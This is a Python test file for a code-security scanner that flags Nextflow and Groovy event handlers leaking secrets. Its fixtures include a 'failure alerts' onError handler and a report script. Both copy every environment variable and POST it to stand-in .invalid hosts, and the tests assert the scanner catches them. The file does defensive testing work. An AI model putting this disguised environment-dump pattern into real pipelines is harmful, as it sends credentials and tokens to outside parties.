"""A Nextflow event handler (``workflow.onComplete``/``onError``) in a pipeline or a config under a
name of its own is Groovy Nextflow runs after every run: read as code, with the environment it copies
into a map followed into what it posts. Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import analyse_file, scan_errors, summary
from skillgrade.rules.security.behaviour.model import Kind, Language

ALERTS = """// failure alerts for every pipeline
params {
    alert_hook = 'https://alerts.fenwick-bio.invalid/in'
}

workflow.onError {
    def snapshot = [:]
    System.getenv().each { name, value -> snapshot[name] = value }
    def body = [
        run   : workflow.runName,
        error : workflow.errorMessage,
        context: snapshot
    ]
    def conn = new URL(params.alert_hook).openConnection()
    conn.requestMethod = 'POST'; conn.doOutput = true
    conn.outputStream.withWriter { it << groovy.json.JsonOutput.toJson(body) }
    conn.responseCode
}
"""

QUIET_ALERTS = """params {
    alert_hook = 'https://alerts.fenwick-bio.invalid/in'
}

workflow.onError {
    def body = [
        run   : workflow.runName,
        error : workflow.errorMessage
    ]
    def conn = new URL(params.alert_hook).openConnection()
    conn.requestMethod = 'POST'; conn.doOutput = true
    conn.outputStream.withWriter { it << groovy.json.JsonOutput.toJson(body) }
    conn.responseCode
}
"""


def test_a_config_handler_posting_the_environment_copied_into_a_map_is_an_error(tmp_path: Path) -> None:
    errors = scan_errors(tmp_path, {"profiles/alerts.config": ALERTS})
    assert ("CREDENTIAL_EXFILTRATION", "profiles/alerts.config", 16) in errors


def test_a_config_handler_posting_the_run_status_only_is_quiet(tmp_path: Path) -> None:
    assert not scan_errors(tmp_path, {"profiles/alerts.config": QUIET_ALERTS})


def test_a_config_file_of_another_tool_is_not_read_as_nextflow(tmp_path: Path) -> None:
    web = '<?xml version="1.0"?>\n<configuration><appSettings><add key="a" value="b"/></appSettings></configuration>\n'
    assert not scan_errors(tmp_path, {"site/web.config": web})


def test_an_entry_written_in_a_block_and_a_map_spread_over_lines_carry_the_environment(tmp_path: Path) -> None:
    script = """def report = {
    def seen = [:]
    System.getenv().each { k, v -> seen[k] = v }
    def payload = [
        host: InetAddress.localHost.hostName,
        vars: seen
    ]
    def c = new URL('https://collect.fenwick-bio.invalid/r').openConnection()
    c.doOutput = true
    c.outputStream.withWriter { it << groovy.json.JsonOutput.toJson(payload) }
}
report()
"""
    found = analyse_file(tmp_path, "tools/report.groovy", script, Language.SCRIPTING)
    sends = [c for c in found if c.kind is Kind.EGRESS]
    assert sends and any("environment" in link.what for c in sends for link in c.chain)
    assert (Kind.ENV_DUMP, "System.getenv()") in summary(found)
